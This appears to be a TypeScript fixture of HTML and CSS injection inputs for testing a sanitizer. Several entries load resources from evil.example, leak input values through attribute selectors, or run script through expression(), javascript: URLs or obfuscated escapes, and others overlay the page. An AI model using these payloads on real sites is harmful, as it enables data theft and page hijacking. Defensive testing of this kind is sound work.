/** Looks that reach beyond their place: rules, attributes, covers. */
export const styles: Record<string, string> = {
  "style element": "<style>body{display:none}</style>",
  "style that fetches": "<style>body{background:url(https://evil.example/x.png)}</style>",
  "style that imports": "<style>@import url(https://evil.example/x.css);</style>",
  "style that reads": "<style>input[value^=a]{background:url(https://evil.example/a)}</style>",
  "style with a font":
    "<style>@font-face{font-family:x;src:url(https://evil.example/x.woff)}*{font-family:x}</style>",
  "style of a namespace": "<style>@namespace url(https://evil.example/);</style>",
  "style in capitals": "<STYLE>*{display:none}</STYLE>",
  "style that stays open": "<style>*{display:none}",
  "style in a template": "<template><style>*{display:none}</style></template>",
  "attribute that covers": "<p style='position:fixed;inset:0;z-index:99999;background:red'>p</p>",
  "attribute that fetches": "<p style=background:url(https://evil.example/x.png)>p</p>",
  "attribute that fetches with an image set":
    "<p style='background:image-set(\"https://evil.example/x\" 1x)'>p</p>",
  "attribute that fetches a list mark": "<li style='list-style:url(https://evil.example/x)'>l</li>",
  "attribute with an expression": "<p style='width:expression(fired())'>p</p>",
  "attribute with a split expression": "<p style='width:exp/**/ression(fired())'>p</p>",
  "attribute with a behaviour": "<p style='behavior:url(#default#time2)' onbegin=fired()>p</p>",
  "attribute with a binding": "<p style='-moz-binding:url(https://evil.example/x.xml#x)'>p</p>",
  "attribute with a script": "<p style='background:url(javascript:fired())'>p</p>",
  "attribute with escapes": "<p style='background:\\75\\72\\6c(https://evil.example/x)'>p</p>",
  "attribute with a variable": "<p style='--ink:red;--paper:url(https://evil.example/x)'>p</p>",
  "attribute in an entity": "<p style=&#98;ackground:url(https://evil.example/x)>p</p>",
  "class of the shell": "<p class='dark menu-open skip-link visually-hidden css-1'>p</p>",
  "class and role": "<p class=contents role=alert aria-live=assertive aria-hidden=true hidden inert>p</p>",
  "slot of the page": "<p slot=main data-slot=items part=x exportparts=x is=x-y>p</p>",
  "colours of old":
    "<font color=red size=7>f</font><table bgcolor=red bordercolor=blue><tr><td bgcolor=#000>x</table>",
  "size that covers":
    "<img src=/favicon.svg alt='' width=100000 height=100000 hspace=9999 vspace=9999 border=9>",
  "text that runs": "<marquee behavior=scroll direction=up loop=999>m</marquee><blink>b</blink>",
  "text that can be written in":
    "<p contenteditable=true autofocus spellcheck=false accesskey=s tabindex=1>p</p>",
  "popover over everything": "<div popover=manual id=p>p</div><button popovertarget=p>b</button>",
  "picture of an element": "<p style=background:-moz-element(#main)>p</p>",
};
